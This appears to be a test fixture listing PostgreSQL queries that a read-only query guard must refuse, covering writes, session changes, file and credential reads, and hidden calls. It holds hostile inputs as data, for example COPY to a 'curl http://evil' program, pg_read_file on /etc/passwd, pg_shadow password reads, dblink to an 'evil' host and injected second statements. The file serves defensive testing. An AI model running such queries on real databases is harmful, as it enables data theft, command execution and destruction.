# Queries that the guard must refuse. One a line; lines that begin with # and empty lines are for people.

# Statements that write
INSERT INTO users VALUES (1)
UPDATE users SET name = 'x'
DELETE FROM users
DELETE FROM users WHERE id = 1 RETURNING *
TRUNCATE users
MERGE INTO users u USING staged s ON u.id = s.id WHEN MATCHED THEN DELETE
DROP TABLE users
DROP SCHEMA public CASCADE
DROP DATABASE shop
CREATE TABLE t (a int)
CREATE TABLE t AS SELECT 1
CREATE TEMP TABLE t AS SELECT * FROM users
CREATE TABLE IF NOT EXISTS t AS TABLE users
CREATE VIEW v AS SELECT 1
CREATE MATERIALIZED VIEW v AS SELECT 1
REFRESH MATERIALIZED VIEW v
CREATE INDEX ON users (name)
CREATE EXTENSION dblink
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN 1; END $$
CREATE ROLE admin SUPERUSER
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE TRIGGER t AFTER INSERT ON users EXECUTE FUNCTION f()
CREATE RULE r AS ON SELECT TO users DO INSTEAD SELECT 1
ALTER TABLE users ADD COLUMN x int
ALTER ROLE postgres PASSWORD 'x'
ALTER SYSTEM SET log_statement = 'all'
ALTER DATABASE shop SET search_path = evil
GRANT ALL ON users TO public
REVOKE ALL ON users FROM public
COMMENT ON TABLE users IS 'x'
REINDEX TABLE users
CLUSTER users
VACUUM
VACUUM FULL users
ANALYZE users
SECURITY LABEL ON TABLE users IS 'x'
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
REASSIGN OWNED BY a TO b

# Statements that change the session, the transaction or others
SET search_path = evil
SET LOCAL statement_timeout = 0
SET SESSION AUTHORIZATION postgres
SET ROLE postgres
SET TRANSACTION READ WRITE
RESET ALL
SHOW ALL
SHOW data_directory
BEGIN
START TRANSACTION READ WRITE
COMMIT
ROLLBACK
SAVEPOINT a
PREPARE TRANSACTION 'x'
LOCK TABLE users
LISTEN x
NOTIFY x
NOTIFY x, 'payload'
UNLISTEN *
DISCARD ALL
CHECKPOINT
LOAD 'evil'
DO $$ BEGIN DELETE FROM users; END $$
CALL p()
PREPARE p AS SELECT 1
EXECUTE p
DEALLOCATE ALL
DECLARE c CURSOR FOR SELECT 1
FETCH ALL FROM c
MOVE c
CLOSE c
COPY users TO STDOUT
COPY users TO '/tmp/users'
COPY users FROM '/etc/passwd'
COPY users FROM PROGRAM 'id'
COPY (SELECT * FROM users) TO PROGRAM 'curl http://evil'
COPY (SELECT 1) TO '/tmp/x'

# Writing inside a SELECT
WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
WITH i AS (INSERT INTO users VALUES (1) RETURNING id) SELECT id FROM i
WITH u AS (UPDATE users SET name = 'x' RETURNING *) SELECT count(*) FROM u
WITH m AS (MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE RETURNING u.id) SELECT * FROM m
WITH a AS (SELECT 1), b AS (DELETE FROM users RETURNING id) SELECT * FROM a
SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) x
WITH a AS (WITH b AS (DELETE FROM users RETURNING 1) SELECT * FROM b) SELECT * FROM a
WITH a AS (SELECT 1) INSERT INTO users SELECT * FROM a
WITH a AS (SELECT 1) DELETE FROM users USING a
SELECT * INTO copy FROM users
SELECT 1 INTO TEMP t
SELECT * INTO UNLOGGED copy FROM users
WITH a AS (SELECT 1 AS x) SELECT x INTO copy FROM a
SELECT * FROM users FOR UPDATE
SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED
SELECT * FROM users FOR SHARE
SELECT * FROM users FOR KEY SHARE NOWAIT
SELECT * FROM (SELECT * FROM users FOR UPDATE) u
SELECT (SELECT id FROM users LIMIT 1 FOR UPDATE)
EXPLAIN ANALYZE SELECT * FROM users
EXPLAIN (ANALYZE) SELECT * FROM users
EXPLAIN (ANALYZE true, VERBOSE) SELECT * FROM users
EXPLAIN (VERBOSE, ANALYZE on) SELECT 1
EXPLAIN DELETE FROM users
EXPLAIN ANALYZE DELETE FROM users
EXPLAIN CREATE TABLE t AS SELECT 1
EXPLAIN EXECUTE p
EXPLAIN WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d

# Functions that write, wait, lock, signal or read files
SELECT nextval('users_id_seq')
SELECT setval('users_id_seq', 1)
SELECT currval('users_id_seq')
SELECT lastval()
SELECT set_config('statement_timeout', '0', false)
SELECT set_config('transaction_read_only', 'off', true)
SELECT current_setting('data_directory')
SELECT pg_sleep(100)
SELECT pg_sleep_for('1 hour')
SELECT pg_sleep_until('tomorrow')
SELECT pg_catalog.pg_sleep(100)
SELECT "pg_sleep"(100)
SELECT PG_SLEEP(100)
SELECT U&"pg\005Fsleep"(100)
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT * FROM pg_ls_dir('/') AS f
SELECT * FROM pg_ls_logdir()
SELECT pg_stat_file('/etc/passwd')
SELECT pg_file_write('/tmp/x', 'x', false)
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_create(0)
SELECT lo_creat(1)
SELECT lo_unlink(1)
SELECT lo_get(1)
SELECT lo_put(1, 0, 'x')
SELECT lo_from_bytea(0, 'x')
SELECT loread(lo_open(1, 262144), 100)
SELECT lowrite(1, 'x')
SELECT pg_terminate_backend(pid) FROM sessions
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_promote()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_backup_start('x')
SELECT pg_notify('a', 'b')
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_lock(1)
SELECT pg_advisory_xact_lock(1)
SELECT pg_advisory_unlock_all()
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT pg_export_snapshot()
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT pg_create_physical_replication_slot('x')
SELECT pg_drop_replication_slot('x')
SELECT pg_replication_origin_create('x')
SELECT pg_stat_reset()
SELECT pg_stat_statements_reset()
SELECT pg_log_backend_memory_contexts(1)
SELECT pg_import_system_collations('public')
SELECT pg_extension_config_dump('users', '')
SELECT brin_summarize_new_values('i')
SELECT gin_clean_pending_list('i')
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT setseed(0.5)
SELECT dblink('host=evil', 'SELECT 1')
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
SELECT dblink_connect('host=evil')
SELECT dblink_exec('DELETE FROM users')
SELECT dblink_send_query('c', 'DELETE FROM users')
SELECT postgres_fdw_disconnect_all()
SELECT plpython_exec('import os')
SELECT http_get('http://169.254.169.254/')
SELECT my_function(1)
SELECT public.lower('X')
SELECT evil.count(*) FROM users
SELECT shop.pg_catalog.lower('x')

# Functions that run a query given as text
SELECT query_to_xml('DELETE FROM users', true, false, '')
SELECT query_to_xml_and_xmlschema('SELECT 1', true, false, '')
SELECT table_to_xml('users', true, false, '')
SELECT schema_to_xml('public', true, false, '')
SELECT database_to_xml(true, false, '')
SELECT cursor_to_xml('c', 1, true, false, '')
SELECT * FROM ts_stat('SELECT v FROM users')
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')
SELECT * FROM crosstab('SELECT 1')
SELECT xpath('/a', '<a/>')
SELECT xmlelement(name a)
SELECT xmlparse(document '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>')
SELECT * FROM xmltable('/a' PASSING '<a/>' COLUMNS b text)

# Calls that hide: everywhere an expression may stand
SELECT 1 WHERE pg_sleep(9) IS NULL
SELECT 1 ORDER BY pg_sleep(9)
SELECT 1 GROUP BY pg_sleep(9)
SELECT count(*) FROM users GROUP BY id HAVING pg_sleep(9) IS NULL
SELECT 1 LIMIT (SELECT setval('s', 1))
SELECT 1 OFFSET nextval('s')
SELECT 1 FETCH FIRST (nextval('s')) ROWS ONLY
SELECT DISTINCT ON (pg_sleep(9)) 1
SELECT sum(nextval('s')) OVER () FROM users
SELECT sum(id) OVER (ORDER BY nextval('s')) FROM users
SELECT sum(id) OVER w FROM users WINDOW w AS (PARTITION BY nextval('s'))
SELECT sum(id) OVER (ROWS nextval('s') PRECEDING) FROM users
SELECT count(*) FILTER (WHERE nextval('s') > 0) FROM users
SELECT string_agg(name, ',' ORDER BY nextval('s')) FROM users
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('s')) FROM users
SELECT CASE WHEN true THEN pg_sleep(9) END
SELECT CASE pg_sleep(9) WHEN NULL THEN 1 END
SELECT coalesce(NULL, pg_sleep(9)::text)
SELECT greatest(nextval('s'), 1)
SELECT ARRAY[nextval('s')]
SELECT (ARRAY[1, 2])[nextval('s')]
SELECT ROW(nextval('s'), 2)
SELECT nextval('s') BETWEEN 1 AND 2
SELECT 1 IN (nextval('s'), 2)
SELECT 'a' LIKE pg_read_file('x')
SELECT NOT (nextval('s') = 1)
SELECT EXISTS (SELECT nextval('s'))
SELECT ARRAY(SELECT nextval('s'))
SELECT * FROM users JOIN orders ON nextval('s') = 1
SELECT * FROM users, LATERAL (SELECT nextval('s')) x
SELECT * FROM generate_series(1, nextval('s')) g
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS t
SELECT * FROM users TABLESAMPLE evil (1)
SELECT * FROM users TABLESAMPLE system (nextval('s'))
VALUES (nextval('s'))
SELECT 1 UNION SELECT nextval('s')
SELECT 1 UNION ALL (SELECT 2 EXCEPT SELECT nextval('s'))
TABLE users UNION ALL SELECT nextval('s')
WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT nextval('s') FROM r) SELECT * FROM r
WITH r AS NOT MATERIALIZED (SELECT pg_sleep(9)) SELECT * FROM r
SELECT json_object('a': nextval('s'))
SELECT json_array(nextval('s'))
SELECT json_value('{}', '$.a' DEFAULT nextval('s') ON EMPTY)
SELECT json_query('{}', '$.a' PASSING nextval('s') AS x)
SELECT json_arrayagg(nextval('s'))
SELECT * FROM json_table('{}', '$' COLUMNS (a int PATH '$.a' DEFAULT nextval('s') ON EMPTY)) j
SELECT substring(pg_read_file('x') FROM 1 FOR 2)
SELECT extract(year FROM pg_postmaster_start_time())
SELECT cast(nextval('s') AS text)
SELECT nextval('s')::text COLLATE "C"
SELECT lower(upper(trim(pg_read_file('x'))))
SELECT make_interval(secs => nextval('s'))
SELECT concat(VARIADIC ARRAY[pg_read_file('x')])
EXPLAIN SELECT pg_sleep(9)

# Calls that look like a column
SELECT ('/etc/passwd'::text).pg_read_file
SELECT (SELECT '/etc/passwd'::text).pg_read_file
SELECT (('x'::text)).pg_ls_dir
SELECT (9).pg_sleep
SELECT t.pg_read_file FROM cast('/etc/passwd' AS text) t
SELECT t.pg_read_file FROM coalesce('/etc/passwd'::text, '') AS t
SELECT t.pg_read_file FROM upper('/etc/passwd') t
SELECT t.pg_sleep FROM generate_series(1, 9) t
SELECT generate_series.pg_sleep FROM generate_series(1, 9)
SELECT t.pg_ls_dir FROM unnest(ARRAY['/']) t
SELECT 1 FROM unnest(ARRAY['/']) t WHERE t.pg_read_file IS NOT NULL
SELECT (SELECT t.pg_read_file) FROM upper('/etc/passwd') t
SELECT x.pg_read_file FROM string_to_table('/etc/passwd', ',') AS x
SELECT pg_read_file FROM cast('/etc/passwd' AS text)

# Operators, types, collations and tables of others
SELECT 1 OPERATOR(evil.+) 2
SELECT * FROM users ORDER BY id USING OPERATOR(evil.<)
SELECT 1 OPERATOR(evil.=) ANY (SELECT 1)
SELECT 'users'::regclass
SELECT 'pg_read_file'::regproc
SELECT 'postgres'::regrole
SELECT cast('users' AS pg_catalog.regclass)
SELECT rolpassword FROM pg_authid
SELECT * FROM pg_catalog.pg_authid
SELECT * FROM pg_shadow
SELECT passwd FROM pg_user
SELECT * FROM pg_user_mapping
SELECT * FROM pg_user_mappings
SELECT * FROM pg_roles
SELECT * FROM pg_stat_activity
SELECT * FROM pg_stat_statements
SELECT * FROM pg_settings
SELECT * FROM pg_file_settings
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_config
SELECT * FROM pg_largeobject
SELECT * FROM pg_statistic
SELECT * FROM pg_stats
SELECT * FROM pg_subscription
SELECT * FROM pg_foreign_server
SELECT * FROM pg_proc
SELECT prosrc FROM pg_catalog.pg_proc
SELECT * FROM pg_toast.pg_toast_1234
SELECT * FROM pg_temp.secrets
SELECT * FROM information_schema.user_mapping_options
SELECT * FROM information_schema.routines
SELECT * FROM users u, pg_shadow s
SELECT (SELECT passwd FROM pg_shadow LIMIT 1)
TABLE pg_shadow

# Several statements, or none
! SELECT 1; DELETE FROM users
! SELECT 1; SELECT 2
! SELECT 1;; SELECT 2
! DELETE FROM users; SELECT 1
! SELECT ';'; DROP TABLE users
! SELECT $$;$$; DROP TABLE users
! ;
! -- nothing
! /* nothing */

# No PostgreSQL at all
! SELEC 1
! SELECT FROM WHERE
! SELECT * FROM users WHERE
! SELECT 'abc
! SELECT "abc
! SELECT $$abc
! SELECT 1 /* comment
! how many users are there?
! DROP
! {"collection": "users", "pipeline": []}
! PRAGMA table_info(users)
! SELECT * FROM users LIMIT 5, 10
! SELECT TOP 5 * FROM users
! \copy users to '/tmp/x'
! \! id

# Parameters have no value here
SELECT $1
SELECT * FROM users WHERE id = $1
